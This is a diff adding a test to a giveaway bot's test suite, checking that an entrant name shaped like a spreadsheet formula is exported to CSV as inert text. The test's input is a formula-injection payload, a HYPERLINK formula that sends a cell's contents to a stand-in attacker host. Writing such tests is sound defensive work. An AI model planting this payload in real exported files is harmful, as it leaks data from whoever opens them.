@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import hashlib
+import io
 import re
 import subprocess
 import sys
@@ -129,6 +131,21 @@ async def test_a_draw_from_post_to_verified_winners(sandbox: SandboxClient) -> N
     assert content.startswith("\ufeffuser_id,name,username,joined_at_utc")
     rows = [line.split(",")[:2] for line in content.splitlines()[1:]]
     assert rows == [[str(fan.id), fan.first_name] for fan in sorted(fans, key=lambda f: f.id)]
+
+
+async def test_draw_entrants_write_a_name_like_a_formula_as_text(sandbox: SandboxClient) -> None:
+    """The list is posted for anyone to open: a name is never a live spreadsheet formula."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    admin = await sandbox.create_user("Ada", None, "en")
+    fan = await sandbox.create_user(formula, None, "en")
+    group = await sandbox.create_group(creator=admin, members=[fan])
+    await sandbox.ask(group, admin, "/settings language en")
+    post = await open_draw(sandbox, group, admin, "Mug winners=1 ends=2h")
+    assert (await press(sandbox, group, post, fan)).startswith("✅ You're in draw")
+    listing = await sandbox.ask(group, fan, f"/draw entrants {draw_id(post)}")
+    content = (await sandbox.file(listing["document"]["file_id"])).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(content, newline="")))
+    assert rows[1][:2] == [str(fan.id), "'" + formula]
 
 
 async def test_bad_input_and_members_cannot_run_draws(sandbox: SandboxClient) -> None:
